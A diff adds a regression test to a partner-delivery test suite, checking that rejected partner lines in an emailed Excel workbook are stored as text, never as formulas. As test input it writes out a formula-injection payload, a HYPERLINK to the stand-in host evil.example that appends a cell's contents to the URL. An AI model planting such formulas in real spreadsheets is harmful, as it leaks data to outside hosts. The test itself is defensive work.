@@ -168,3 +168,22 @@ def test_a_failing_smtp_server_loses_nothing_and_rq_retries(
     delivery.refresh_from_db()
     assert (delivery.status, delivery.attempts) == (ReceiptDelivery.Status.SENT, 2)
     assert len(mail.outbox) == 1
+
+
+def test_partner_data_in_the_workbook_is_text_never_a_formula(
+    world: World, deliver: Deliver, settings: Any
+) -> None:
+    """Before: a rejected line '=HYPERLINK(…)' was stored as a live formula in the workbook
+    partners download and the internal list receives."""
+    settings.PARTNER_SOLUTIONS_EMAILS = ["solutions@platform.test"]
+    line = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    receipt = deliver({"ftp_dpm_21_1700000000.sync": f"u1\td_sid=10\n{line}\n"})
+    ((_, content, _),) = _send(receipt).attachments
+    book = load_workbook(io.BytesIO(content))  # not read-only: cells keep their type
+    sheet = book["Rejected lines"]
+    starts = [sheet.cell(row=r, column=5) for r in range(2, sheet.max_row + 1)]
+    assert len(starts) == 1
+    assert line.startswith(starts[0].value)
+    assert {c.data_type for c in starts} == {"s"}
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
